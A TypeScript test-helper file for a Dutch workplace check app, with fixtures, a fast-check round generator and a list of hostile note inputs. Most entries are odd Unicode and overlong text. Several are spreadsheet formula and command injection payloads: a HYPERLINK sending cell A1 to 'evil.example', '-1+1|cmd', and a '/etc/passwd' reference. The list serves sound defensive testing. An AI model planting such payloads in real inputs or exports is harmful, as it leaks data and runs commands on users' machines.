import fc from "fast-check";
import { readContent } from "../bots/content-files.ts";
import type { Check, Given, Round } from "../dialogs/check/check.ts";
import { longest, verdicts } from "../dialogs/check/check.ts";
import { questionsFor, type Setting, sizes } from "../dialogs/check/questions.ts";
import { sectors } from "../dialogs/find/situation.ts";

/** What the tests of the check's document share. */

/** Once the questions have their words: `readContent()`, without the wrapper. */
export const content = readContent();

export const now = Date.parse("2026-11-28T10:00:00Z");

export function given(verdict: Given["verdict"], note = "", more: Partial<Given> = {}): Given {
  return { verdict, note, by: "p1", at: now - 60_000, revision: 1, aside: false, ...more };
}

export function roundOf(setting: Setting, answers: Round["answers"], more: Partial<Round> = {}): Round {
  return {
    id: "r1",
    setting,
    startedAt: now - 3_600_000,
    finishedAt: now - 1000,
    answers,
    plan: {},
    ...more,
  };
}

export function checkOf(rounds: readonly Round[], more: Partial<Check> = {}): Check {
  return {
    unit: "Afdeling Noord",
    code: "SECRET-JOIN-CODE",
    people: [{ id: "p1", mark: "SECRET-MARK", name: "Noor", role: "manager" }],
    revision: 9,
    rounds: [...rounds],
    recheck: [],
    language: "nl",
    ...more,
  };
}

export function lastOf(check: Check): Round {
  const round = check.rounds.at(-1);
  if (!round) throw new RangeError("no round");
  return round;
}

/** Every question answered in one way. */
export function allAnswered(setting: Setting, answer: Given): Round["answers"] {
  return Object.fromEntries(questionsFor(setting).map(({ id }) => [id, [answer]]));
}

const settings = fc.record({ sector: fc.constantFrom(...sectors), size: fc.constantFrom(...sizes) });

/** Rounds of every sector and size, with any answer to any question, or none. */
export function anyRound(notes: fc.Arbitrary<string>): fc.Arbitrary<Round> {
  const answer = fc.record({ verdict: fc.constantFrom(null, ...verdicts), note: notes });
  return settings.chain((setting) => {
    const ids = questionsFor(setting).map(({ id }) => id);
    return fc
      .tuple(
        fc.array(fc.option(answer), { minLength: ids.length, maxLength: ids.length }),
        fc.boolean(),
        fc.uniqueArray(fc.constantFrom(...ids), { maxLength: 9 }),
      )
      .map(([all, finished, planned]) => {
        const answers = all.flatMap((one, nr) =>
          one ? [[ids[nr], [given(one.verdict, one.note)]] as const] : [],
        );
        const plan = planned.map((id, nr) => [
          id,
          {
            owner: "Noor",
            due: "2027-01-15",
            done: nr % 2 === 0,
            by: "p1",
            at: now,
            revision: 2,
            remind: [],
          },
        ]);
        return roundOf(setting, Object.fromEntries(answers), {
          finishedAt: finished ? now - 1000 : null,
          plan: Object.fromEntries(plan),
        });
      });
  });
}

/** What people, and those who mean harm, may leave in a note. */
export const hostileNotes: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1;"klik")',
  "+31 6 bellen",
  "-1+1|cmd",
  "@SUM(A1)",
  "\t=1+1",
  "＝1+1",
  '“Citaat”, ‘enkel’ en "recht"; é ë ï ü ñ ç ø å ß İ ğ ș Ж Ω ế',
  "👩‍👩‍👧‍👦 🎭 1️⃣ ❤️ naar → intranet",
  "مرحبا 你好 \u202Egnol\u202C \u200B\uFEFF \u0000\u0007 \uD800",
  "Z̶̡̢̛͓̯̪̺a̴̧l̸g̵o̶",
  "W".repeat(longest.note),
  "i".repeat(longest.note),
  "https://evil.example/".padEnd(longest.note, "a"),
  "a\n".repeat(longest.note / 2),
  "data:image/png;base64,AAAA file:///etc/passwd /etc/passwd",
  "{name} <b>vet</b> $x %s \\u0041 [object Object]",
];
